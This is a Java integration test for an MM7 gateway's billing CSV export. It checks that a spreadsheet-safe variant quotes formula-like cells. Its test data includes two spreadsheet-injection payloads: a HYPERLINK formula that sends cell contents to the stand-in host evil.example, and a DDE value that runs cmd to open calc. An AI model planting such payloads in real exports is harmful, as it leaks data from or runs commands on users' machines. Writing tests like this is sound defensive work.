package mm7gw.it;

import static mm7gw.it.Gateway.mm7;
import static mm7gw.it.Gateway.xml;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.net.http.HttpResponse;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * The charging CSV export in its two variants: by default every value exactly as the VASP sent it (the billing
 * contract), with {@code spreadsheetSafe=true} a text cell that a spreadsheet would run as a formula (beginning with
 * =, +, -, @, tab or CR) carries a leading single quote, while numbers, times and plain signed numbers stay as they are.
 */
class SpreadsheetSafeCsvIT {
    private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static final String AT = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String SIGNED = "-42";

    private static void submit(Gateway.Vasp vasp, String serviceCode) {
        HttpResponse<String> r = Gateway.postSoap(vasp, Envelopes.submit(Gateway.unique("tx"), vasp.vaspId(),
                vasp.vasId(), serviceCode.replace("&", "&amp;"), "<To><Number>447700900641</Number></To>"));
        assertEquals("1000", mm7(xml(r.body()), "StatusCode"), r.body());
    }

    @Test
    void theSpreadsheetSafeVariantNeutralisesFormulasAndTheDefaultKeepsTheExactValues() throws Exception {
        Gateway.Vasp vasp = Gateway.newVasp();
        Instant start = Instant.now().minusSeconds(5);
        submit(vasp, FORMULA);
        submit(vasp, AT);
        submit(vasp, SIGNED);
        // 3 submit events and 3 deliveries, once numbered
        Billing.events(vasp.vaspId(), start, 6);

        List<CSVRecord> exact = Billing.csv(vasp.vaspId(), start);
        List<CSVRecord> safe = Billing.csv(vasp.vaspId(), start, "&spreadsheetSafe=true");
        assertEquals(6, exact.size());
        assertEquals(6, safe.size());
        Map<String, String> exactCodes = exact.stream().filter(r -> r.get("recordType").equals("MM7_SUBMIT"))
                .collect(Collectors.toMap(r -> r.get("eventId"), r -> r.get("serviceCode")));
        Map<String, String> safeCodes = safe.stream().filter(r -> r.get("recordType").equals("MM7_SUBMIT"))
                .collect(Collectors.toMap(r -> r.get("eventId"), r -> r.get("serviceCode")));
        assertEquals(java.util.Set.of(FORMULA, AT, SIGNED), java.util.Set.copyOf(exactCodes.values()),
                "the billing export is exact");
        assertEquals(exactCodes.keySet(), safeCodes.keySet(), "the same events");
        for (String id : exactCodes.keySet()) {
            String code = exactCodes.get(id);
            assertEquals(code.equals(SIGNED) ? SIGNED : "'" + code, safeCodes.get(id), id);
        }
        for (int i = 0; i < safe.size(); i++) {
            CSVRecord s = safe.get(i);
            CSVRecord e = exact.get(i);
            // numbers, times and the other values are the same in both
            for (String field : List.of("eventId", "sequenceNumber", "occurredAt", "recipientCount", "messageSize",
                    "statusCode", "recipient", "vaspId", "messageId", "deliveryReportRequested")) {
                assertEquals(e.get(field), s.get(field), field);
            }
        }
    }
}
